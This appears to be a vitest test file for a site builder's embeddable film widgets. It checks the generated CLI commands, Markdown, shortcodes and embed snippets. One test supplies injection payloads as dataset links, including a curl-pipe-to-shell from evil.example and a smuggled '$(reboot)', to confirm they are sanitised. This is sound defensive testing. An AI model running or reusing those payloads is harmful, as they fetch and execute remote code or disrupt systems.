/**
 * The builder's snippets of two widgets, used as their readers would use them: by the command, as Markdown, and as a shortcode.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Publisher, type ReadDataset } from '../../site/builder/publisher.js';
import type { Snippet } from '../../site/builder/snippet.js';
import { type SnippetKind } from '../../site/builder/snippet-kinds.js';
import { writeSnippet } from '../../site/builder/snippets.js';
import { readState } from '../../site/builder/state.js';
import { markupOf } from '../../site/builder/tree.js';
import { widgetTree, wordsOf } from '../../site/builder/widget-tree.js';

/** What the builder's worker runs, as it was built. */
const { answer } = (await import(String(new URL('../../dist/site/publish.js', import.meta.url)))) as typeof import('../../site/builder/publish.js');

const instant = '2026-11-20T12:00:00Z';
const now = Date.parse(instant);
const root = new URL('../../', import.meta.url);

/** The worker's answers, as of a day. */
const publisher: Publisher = {
  prerender: async (page, src) => (await answer({ what: 'prerender', page, now, ...(src !== undefined && { src }) })) as string,
  bake: async (page, src) => (await answer({ what: 'bake', page, now, ...(src !== undefined && { src }) })) as string,
  embed: async (embed) => (await answer({ what: 'embed', embed, now })) as Awaited<ReturnType<Publisher['embed']>>,
  dataset: async (src) => (await answer({ what: 'dataset', src })) as ReadDataset,
};

const card = '?widget=film-card&film=ballerina&theme=noir';
const fact = '?widget=fact&of=ballerina&field=release-date&words=June+7,+2024&published=2024-01-25';
const quote = '?widget=quote&film=ballerina&lang=de&width=360';

async function snippetOf(query: string, kind: SnippetKind): Promise<Snippet> {
  const state = readState(query);
  return writeSnippet(kind, { state, trees: widgetTree(state, 'Ballerina'), words: wordsOf(state, 'Ballerina'), src: undefined, publisher, release: { version: '0.1.0', integrity: { 'wick.css': 'sha384-a', 'wick.min.js': 'sha384-b' } } });
}

/** What the markup of the state itself becomes. */
async function drawn(query: string): Promise<string> {
  return shownIn(await publisher.prerender(markupOf(widgetTree(readState(query), 'Ballerina'))));
}

/** What the command makes of an article with a text in it. */
function prerendered(name: string, text: string): string {
  writeFileSync(join(folder, name), text);
  run(`npx wick prerender ${name} -o out/ --css link`);
  return shownIn(readFileSync(join(folder, 'out', name), 'utf8'));
}

/** The words that the widgets show, without those that stay between their tags. Markdown escapes a full stop. */
function shownIn(html: string): string {
  return [...html.matchAll(/<template shadowrootmode="open">[^]*?<\/template>/g)].join('\n').replace(/<[^>]*>/g, '').replaceAll('&#46;', '.').replace(/\s+/g, ' ').trim();
}

let folder: string;
beforeAll(() => { folder = mkdtempSync(join(tmpdir(), 'wick-snippets-')); });
afterAll(() => { rmSync(folder, { recursive: true }); });

/** Runs a command of a snippet, as in a terminal. */
function run(command: string): void {
  const [npx, wick, ...args] = command.split(' ');
  expect([npx, wick]).toEqual(['npx', 'wick']);
  execFileSync(process.execPath, [fileURLToPath(new URL('bin/wick.js', root)), ...args, '--now', instant], { cwd: folder, encoding: 'utf8' });
}

describe.each([['prerendered', card], ['prerendered', fact], ['baked', card], ['baked', fact]] as const)('the snippet of %s HTML for %s', (kind, query) => {
  it('shows what its command writes', async () => {
    const [page, command, output] = (await snippetOf(query, kind)).steps;
    writeFileSync(join(folder, page!.caption), page!.code);
    run(command!.code);
    expect(readFileSync(join(folder, 'out/article.html'), 'utf8')).toBe(output!.code);
    expect(output!.code).toContain('June 6, 2025');
  });
});

describe.each(['prerendered', 'baked'] as const)('the command for %s HTML, where a link brings the dataset', (kind) => {
  it.each([
    ['https://paper.example/films/wardens.v2_1-final.json', 'wardens.v2_1-final.json'],
    ['https://paper.example/', 'dataset.json'],
    ['https://evil.example/a;curl$IFS-s$IFS-L$IFSevil.example|sh', 'dataset.json'],
    ['https://evil.example/$(reboot).json', 'dataset.json'],
    ['https://evil.example/a%0Areboot', 'dataset.json'],
    ['https://evil.example/--help', 'dataset.json'],
  ])('takes from %s only the name of a file', async (src, file) => {
    const state = readState(`${card}&src=${encodeURIComponent(src)}`);
    const silent = { ...publisher, prerender: () => Promise.resolve(''), bake: () => Promise.resolve('') };
    const { steps } = await writeSnippet(kind, { state, trees: widgetTree(state, 'Ballerina'), words: '', src: state.src, publisher: silent, release: { version: '0.1.0', integrity: { 'wick.css': '', 'wick.min.js': '' } } });
    expect(steps[1]!.code).toMatch(/^npx wick (?:prerender|bake) article\.html -o out\/ (?:--css link )?--dataset [\w.-]+$/);
    expect(steps[1]!.code.split(' ').at(-1)).toBe(file);
  });
});

describe.each([['ballerina/wick-film-card', card], ['ballerina/wick-quote', quote]])('the snippets of an embed, %s', (path, query) => {
  it('frame what the command writes', async () => {
    const [command, frame] = (await snippetOf(query, 'frame')).steps;
    run(command!.code);
    const [, address, options] = /src="https:\/\/example\.org\/embed\/([^"?]*)(\?[^"]*)?"/.exec(frame!.code)!;
    expect([address, options]).toEqual([`${path}.html`, undefined]);
    expect(readFileSync(join(folder, 'out', address!), 'utf8')).toContain('<wick-');
    expect(frame!.code).toContain(query === quote ? 'width="360"' : 'width="100%"');
  });

  it('name the address and the answer of oEmbed', async () => {
    const [command, address, json] = (await snippetOf(query, 'oembed')).steps;
    run(command!.code);
    const page = readFileSync(join(folder, 'out', address!.code.replace('https://example.org/embed/', '')), 'utf8');
    const [, linked] = /type="application\/json\+oembed" href="https:\/\/example\.org\/embed\/([^"]*)"/.exec(page)!;
    expect(readFileSync(join(folder, 'out', linked!), 'utf8').trimEnd()).toBe(json!.code);
  });
});

describe.each([card, fact])('the snippets for editors, %s', (query) => {
  const around = (code: string): string => (query === fact ? `… ${code} …` : code);

  it('become the widget in Markdown', async () => {
    const [link] = (await snippetOf(query, 'markdown')).steps;
    expect(prerendered('article.md', `Before it.\n\n${around(link!.code)}\n\nAfter it.\n`).replaceAll(/&#(\d+);/g, (_all, code: string) => String.fromCodePoint(Number(code)))).toBe(await drawn(query));
  });

  it('become the widget from a shortcode', async () => {
    const [shortcode] = (await snippetOf(query, 'wordpress')).steps;
    expect(prerendered('article.html', `<p>${around(shortcode!.code)}</p>`)).toBe(await drawn(query));
  });

  it('show what is true', async () => {
    expect(await drawn(query)).toMatch(/June 6, 2025/);
  });
});

describe('where a way in cannot say it', () => {
  it.each([
    ['frame', '?widget=timeline&lens=story', /writes no frame/],
    ['frame', '?widget=film-card&film=ballerina&layout=row', /does not take “layout”/],
    ['frame', '?widget=film-card&film=the-lamp&src=/films.json', /embedFiles/],
    ['wordpress', '?widget=film-card&film=ballerina&lang=de', /No shortcode/],
    ['markdown', '?widget=answer&question=ballerina-trailer', /let HTML through/],
  ] as const)('the %s of %s says so', async (kind, query, said) => {
    const state = readState(query);
    const { note } = await writeSnippet(kind, { state, trees: widgetTree(state, 'Ballerina'), words: 'Words', src: state.src, publisher, release: { version: '0.1.0', integrity: { 'wick.css': '', 'wick.min.js': '' } } });
    expect(note).toMatch(said);
  });
});
